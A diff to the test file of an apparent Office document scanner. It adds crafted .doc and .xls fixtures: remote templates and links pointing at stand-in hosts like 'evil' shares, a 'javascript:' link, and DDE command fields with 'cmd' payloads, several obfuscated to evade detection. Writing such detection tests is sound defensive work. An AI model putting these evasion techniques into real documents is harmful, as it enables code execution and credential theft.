@@ -96,6 +96,82 @@ def wide(text: str) -> bytes:
     return text.encode("utf-16-le")
 
 
+def doc_in_pieces(*pieces: bytes | str, template: str = "C:\\Mau\\Normal.dot") -> tuple[str, bytes]:
+    """As Word saves in a hurry: the text stands backwards in its stream, and a list says how it is read."""
+    text, places = b"", []
+    for piece in reversed(pieces):
+        stored = piece if isinstance(piece, bytes) else wide(piece)
+        place = 1024 + len(text)
+        places.insert(0, 2 * place | 0x4000_0000 if isinstance(piece, bytes) else place)
+        text += stored + b"\0" * (len(stored) % 2)
+    borders = [sum(map(len, pieces[:number])) for number in range(len(pieces) + 1)]
+    order = struct.pack(f"<{len(borders)}I", *borders)
+    order += b"".join(struct.pack("<HIH", 0, place, 0) for place in places)
+    order = b"\x01\x02\0xx\x02" + struct.pack("<I", len(order)) + order
+    names = struct.pack("<HHH", 0xFFFF, 2, 0)
+    names += b"".join(struct.pack("<H", len(name)) + wide(name) for name in ("", template))
+    head = bytearray(1024)
+    struct.pack_into("<HHHHHH", head, 0, 0xA5EC, 0xC1, 0, 0x409, 0, 0x0200)
+    struct.pack_into("<IIII", head, 0x19A, 0, len(names), len(names), len(order))
+    return "a.doc", compound({"WordDocument": bytes(head) + text, "1Table": names + order})
+
+
+_LINK_CLASS = bytes.fromhex("d0c9ea79f9bace118c8200aa004ba90b")
+_WEB = bytes.fromhex("e0c9ea79f9bace118c8200aa004ba90b")
+_FILE = bytes.fromhex("0303000000000000c000000000000046")
+
+
+def link(flags: int, rest: bytes) -> bytes:
+    return record(0x01B8, bytes(8) + _LINK_CLASS + struct.pack("<II", 2, flags) + rest)
+
+
+def counted(text: str) -> bytes:
+    return struct.pack("<I", len(text) + 1) + wide(f"{text}\0")
+
+
+def web_link(address: str) -> bytes:
+    stored = wide(f"{address}\0")
+    return link(0x17, counted("xem") + _WEB + struct.pack("<I", len(stored)) + stored)
+
+
+def file_link(path: bytes) -> bytes:
+    stored = struct.pack("<HI", 0, len(path) + 1) + path + b"\0\xff\xff\xad\xde" + bytes(24)
+    return link(3, _FILE + stored)
+
+
+def figures(path: bytes) -> bytes:
+    """Where a pivot table has its figures from: an area."""
+    return record(0x0051, bytes(6) + struct.pack("<HB", len(path), 0) + path)
+
+
+def named_figures(path: bytes) -> bytes:
+    stored = struct.pack("<HB", len(path), 0) + path if path else bytes(2)
+    return record(0x0052, struct.pack("<HB", 3, 0) + b"abc" + stored)
+
+
+def formula(*texts: str) -> bytes:
+    """HYPERLINK of these."""
+    tokens = b"".join(struct.pack("<BBB", 0x17, len(text), 1) + wide(text) for text in texts)
+    tokens += struct.pack("<BBH", 0x42, max(len(texts), 1), 359)
+    return record(0x0006, bytes(20) + struct.pack("<H", len(tokens)) + tokens)
+
+
+def xls_95(*records: bytes) -> tuple[str, bytes]:
+    begin = record(0x0809, struct.pack("<HHHH", 0x0500, 5, 0, 0))
+    return "a.xls", compound({"Book": begin + b"".join(records) + record(0x000A)})
+
+
+def source_95(path: bytes, length: int = 0) -> bytes:
+    return record(0x0017, bytes([length or len(path)]) + path)
+
+
+def drawing(name: str, flags: int, kind: int = 0x00EC) -> bytes:
+    """A picture by its name, and how it is kept: 0x0A is linked, 2 is in the file."""
+    stored = wide(f"{name}\0")
+    properties = struct.pack("<HIHI", 0xC105, len(stored), 0x0106, flags) + stored
+    return record(kind, struct.pack("<HHI", 0x23, 0xF00B, len(properties)) + properties)
+
+
 def broken(file: tuple[str, bytes], at: int, what: bytes) -> tuple[str, bytes]:
     name, content = file
     return name, content[:at] + what + content[at + len(what) :]
@@ -106,7 +182,25 @@ ORDINARY: dict[str, tuple[str, bytes]] = {
     "a workbook with a chart": xls(sheet(), sheet(2)),
     "a workbook in pieces": xls(sheet(), is_scattered=True),
     "its own sheets as a source": xls(record(0x01AE, struct.pack("<HH", 1, 0x0401))),
+    "links to the web and to a place": xls(
+        web_link("https://moj.gov.vn"), web_link("mailto:a@b.vn"), link(8, counted("'Quý 1'!A1"))
+    ),
+    "a link by a formula": xls(formula("https://moj.gov.vn", "xem")),
+    "a link by a formula to a place": xls(formula("#S!A1")),
+    "a pivot table of its own sheet": xls(figures(b"\x02Sheet1"), named_figures(b"")),
+    "a picture from the web, kept inside": xls(drawing("http://a.vn/a.png", 2)),
+    "a picture from a folder": xls(drawing("C:\\anh\\a.png", 0)),
+    "a workbook of Excel 95": xls_95(
+        sheet(), source_95(b"\x03Sheet1"), source_95(b"\x04"), source_95(b"\x3a", 1), source_name(0)
+    ),
+    "numbers where Excel 95 had names": xls(record(0x0017, struct.pack("<HHHH", 1, 0x6301, 0x0364, 0))),
     "a letter": doc(),
+    "a letter in pieces": doc_in_pieces("Kính gửi ", b"Bo \x13 PAG", "E \x141\x15"),
+    "a letter with fields in fields": doc(
+        b"\x13 IF \x13 MERGEFIELD a \x15=1 a b\x14b\x15 \x13=\x13PAGE\x15-1\x15"
+    ),
+    "a link with what belongs to it": doc(b'\x13 HYPERLINK \\l "_Toc1" \x01\x14a\x15'),
+    "figures that look like fields": doc(bytes([19, 19, 7, 21, 19, 0, 19, 0, 21, 0, 19, 19, 65, 66, 21]) * 9),
     "a letter with fields": doc(b'\x13 PAGE \x141\x15 \x13 HYPERLINK "https://moj.gov.vn" \x14a\x15'),
     "a letter about DDE": doc(b"Tat DDEAUTO the nao"),
 }
@@ -129,10 +223,57 @@ WARNED: dict[str, tuple[str, bytes, str]] = {
     ),
     "a template elsewhere": (*doc(wide("http://evil.example/a.dotm")), "external"),
     "a template on a share": (*doc(wide("\\\\evil\\share\\a.dot")), "external"),
+    **{
+        f"a link to {name} by {how}": (
+            *doc(code(f'\x13{blank}HYPERLINK "{address}" \x01\x14a\x15')),
+            "external",
+        )
+        for name, address in (("a share", "\\\\\\\\evil\\\\s"), ("a file", "file://evil/s"))
+        for how, code, blank in (("a field", str.encode, " "), ("a wide field", wide, "\xa0"))
+    },
+    **{
+        f"a field {name}": (*doc(b'\x13 %b "\\\\\\\\evil\\\\s" \x14\x15' % name.encode()), "external")
+        for name in ("DATABASE", "INCLUDE", "RD", "INCLUDETEXT", "IMPORT", "LINK")
+    },
+    "a field in pieces that fetches": (*doc_in_pieces("\x13 INCLU", b"DEPICTURE a\x14\x15"), "external"),
+    "a template on the web by any name": (*doc_in_pieces("a", template="http://evil/a.php"), "external"),
+    "a template on a share by any name": (*doc_in_pieces("a", template="\\\\evil\\s\\a"), "external"),
+    "a link to a share": (*xls(link(0x103, counted("\\\\evil\\s"))), "external"),
+    "a link to a file on a share": (*xls(file_link(b"\\\\evil\\s")), "external"),
+    "a link to a file by its address": (*xls(web_link("file://evil/s")), "external"),
+    "a link to a script": (*xls(web_link("javascript:alert(1)")), "external"),
+    "a link of an unknown class": (*xls(link(3, bytes(16))), "external"),
+    "a link that ends too early": (*xls(link(0x103, b"")), "unread"),
+    "a link by a formula to a share": (*xls(formula("\\\\evil\\s", "xem")), "external"),
+    "a link by a formula to a share in pieces": (*xls(formula("\\", "\\evil")), "external"),
+    "a link by a formula to a share behind another": (
+        *xls(formula("https://a.vn", "\\\\evil\\s")),
+        "external",
+    ),
+    "a link by a formula to a cell": (*xls(formula()), "external"),
+    "figures of a share": (*xls(figures(b"\x01\x01@evil\x03a.xls")), "external"),
+    "named figures of a share": (*xls(named_figures(b"\x01\x01@evil\x03a.xls")), "external"),
+    "a picture on a share": (*xls(drawing("\\\\evil\\s\\a.png", 10, 0x00EB)), "external"),
+    "a picture on the web": (*xls(drawing("http://evil/a.png", 10)), "external"),
+    "a workbook of Excel 95 with another": (*xls_95(source_95(b"\x01\x01@evil\x03[a.xls]S")), "external"),
+    "a workbook of Excel 95 with an object": (
+        *xls_95(source_95(b"Word.Document\x03c:\\a.doc"), source_name(0x10)),
+        "external",
+    ),
     "a chain without an end": (*broken(doc(), 512 + 4 * 2, struct.pack("<I", 2)), "unread"),
     "a chain that leads nowhere": (*broken(doc(), 512 + 4 * 2, struct.pack("<I", 99)), "unread"),
     "a workbook that is none": ("a.xls", compound({"Workbook": b"nothing"}), "unread"),
     "a letter that is none": ("a.doc", compound({"WordDocument": b"nothing"}), "unread"),
+}
+_COMMANDS = {
+    "in numbers": "\x13 \x13 QUOTE 68 68 69 65 \x14\x15 c:\\cmd x\x14\x15",
+    "in numbers with another result": "\x13 \x13 QUOTE 68 68 69 65 \x14PAGE\x15 c:\\cmd x\x14\x15",
+    "in halves": "\x13 D\x13 QUOTE 68 69 \x15 c:\\cmd x\x14\x15",
+    "by a property": "\x13\x13 DOCPROPERTY a \x15 c:\\cmd x\x14\x15",
+    "behind a line": "\x13\rDDE c:\\cmd x\x14\x15",
+    "before a line": "\x13DDE\rc:\\cmd x\x14\x15",
+    "in quotes": '\x13 "DDE" c:\\cmd x\x14\x15',
+    "without an end": "\x13 DDEAUTO c:\\cmd x",
 }
 REFUSED: dict[str, tuple[str, bytes, str]] = {
     "macros in small letters": (*doc(storages=("macros",)), "macros"),
@@ -150,5 +291,17 @@ REFUSED: dict[str, tuple[str, bytes, str]] = {
         *doc(b"x" * (510 - 1024 % 512) + b"\x13 DDE cmd \x14", is_scattered=True),
         "commands",
     ),
+    "a command in a workbook of Excel 95": (
+        *xls_95(source_95(b"cmd\x03/c calc"), source_name(0)),
+        "commands",
+    ),
+    **{
+        f"a field with a command, {how}": (*doc(code(words)), "commands")
+        for how, words in _COMMANDS.items()
+        for code, how in ((str.encode, how), (wide, f"{how} (wide)"))
+    },
+    "a field with a command behind a hard blank": (*doc(b"\x13\xa0DDE c:\\cmd x\x14\x15"), "commands"),
+    "a field in pieces with a command": (*doc_in_pieces("\x13 D", b"DE c:\\cmd ", "\x14\x15"), "commands"),
+    "a field in pieces whose name is a bookmark": (*doc_in_pieces("\x13 \x13c", b"\x15 cmd\x15"), "commands"),
     "a package with a password": ("a.doc", compound({"EncryptedPackage": b""}), "password"),
 }
